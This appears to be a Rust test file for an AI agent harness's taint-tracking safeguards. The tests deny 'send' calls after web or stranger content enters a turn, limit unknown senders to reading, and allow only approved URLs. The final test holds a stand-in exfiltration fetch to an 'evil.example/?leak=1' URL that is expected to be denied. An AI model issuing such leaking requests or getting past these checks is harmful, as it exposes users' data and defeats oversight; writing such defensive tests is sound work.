use crate::world::*;
use carapace_contract::decision::Origin;
use carapace_contract::message::Part;
use carapace_contract::ports::ToolOutput;
use serde_json::json;

/// Fetches something, then tries to send.
fn fetch_then_send() -> Plan {
    Plan::new(|_, _, n| match n {
        0 => vec![Say::Call("f", "web_fetch", json!({"n": 1}))],
        1 => vec![Say::Call("s", "send", json!({"n": 1}))],
        _ => vec![Say::Text("done")],
    })
}

#[tokio::test]
async fn a_turn_that_read_the_web_may_not_send_and_the_owner_can_see_why() {
    let dir = tempfile::tempdir().unwrap();
    let h = fetch_then_send().build(dir.path());
    h.turn(ask("s", "go")).await;
    assert_eq!(h.made(), ["web_fetch"]);
    let got = results(&h.request(2)).pop().unwrap();
    assert!(got.is_error && got.content.starts_with("denied: `send` needs approval, because"), "{}", got.content);
    let audit = h.store.audit_tail(10).await.unwrap();
    let row = audit.iter().find(|a| a.row.kind == "call-denied").unwrap();
    assert_eq!(row.row.subject, "send");
    assert_eq!(row.row.detail["code"], "E-CHECK-010");
}

#[tokio::test]
async fn taint_outlives_the_turn() {
    let dir = tempfile::tempdir().unwrap();
    let h = Plan::new(|_, _, n| match n {
        0 => vec![Say::Call("f", "web_fetch", json!({}))],
        2 => vec![Say::Call("s", "send", json!({}))],
        _ => vec![Say::Text("done")],
    })
    .build(dir.path());
    h.turn(ask("s", "look")).await;
    h.turn(ask("s", "now send")).await;
    assert_eq!(h.made(), ["web_fetch"]);
    let rows = h.store.session_rows("s", 100).await.unwrap();
    let tainted: Vec<_> = rows.iter().map(|r| (r.kind.as_str(), r.tainted)).collect();
    assert_eq!(tainted[..4], [("user", false), ("assistant", false), ("tool-result", true), ("assistant", true)]);
}

#[tokio::test]
async fn the_owner_may_send_as_long_as_nothing_came_from_outside() {
    let dir = tempfile::tempdir().unwrap();
    let h = Plan::new(|_, _, n| match n {
        0 => vec![Say::Call("l", "look", json!({}))],
        1 => vec![Say::Call("s", "send", json!({}))],
        _ => vec![Say::Text("done")],
    })
    .build(dir.path());
    h.turn(ask("s", "go")).await;
    assert_eq!(h.made(), ["look", "send"]);
}

#[tokio::test]
async fn a_tools_own_word_taints_too() {
    let dir = tempfile::tempdir().unwrap();
    let h = Plan::new(|_, _, n| match n {
        0 => vec![Say::Call("l", "look", json!({}))],
        1 => vec![Say::Call("s", "send", json!({}))],
        _ => vec![Say::Text("done")],
    })
    .hands(|c| Ok(ToolOutput { content: vec![Part::text("mail from a stranger")], tainted: c.tool == "look" }))
    .build(dir.path());
    h.turn(ask("s", "go")).await;
    assert_eq!(h.made(), ["look"]);
}

#[tokio::test]
async fn an_unknown_sender_gets_reading_only() {
    let dir = tempfile::tempdir().unwrap();
    let h = Plan::new(|_, _, n| match n {
        0 => ["look", "web_fetch", "write", "send", "run", "compute"].map(|t| Say::Call("c", t, json!({}))).into(),
        _ => vec![Say::Text("done")],
    })
    .build(dir.path());
    h.turn(ask_as(Origin::UnknownSender, "s", "go")).await;
    let mut made = h.made();
    made.sort();
    assert_eq!(made, ["compute", "look"]);
    assert_eq!(h.store.audit_tail(10).await.unwrap().iter().filter(|a| a.row.kind == "call-denied").count(), 4);
}

#[tokio::test]
async fn a_tainted_turn_fetches_what_the_owner_wrote_or_a_search_found_and_nothing_else() {
    let dir = tempfile::tempdir().unwrap();
    let mut plan = Plan::new(|_, _, n| match n {
        0 => vec![Say::Call("q", "web_search", json!({"q": "rust"}))],
        1 => vec![
            Say::Call("a", "web_fetch", json!({"url": "https://own.example/page"})),
            Say::Call("b", "web_fetch", json!({"url": "https://found.example/1"})),
            Say::Call("c", "web_fetch", json!({"url": "https://evil.example/?leak=1"})),
        ],
        _ => vec![Say::Text("done")],
    })
    .hands(|_| says("see https://found.example/1 and more"));
    plan.tools = plan
        .tools
        .into_iter()
        .map(|mut t| {
            t.parameters = json!({"type": "object"});
            t
        })
        .collect();
    let h = plan.build(dir.path());
    h.turn(ask("s", "compare https://own.example/page with what you find")).await;
    let got = results(&h.request(2));
    let denied: Vec<_> = got.iter().filter(|r| r.content.starts_with("denied:")).map(|r| r.call_id.as_str()).collect();
    assert_eq!(denied, ["c"], "{got:?}");
}
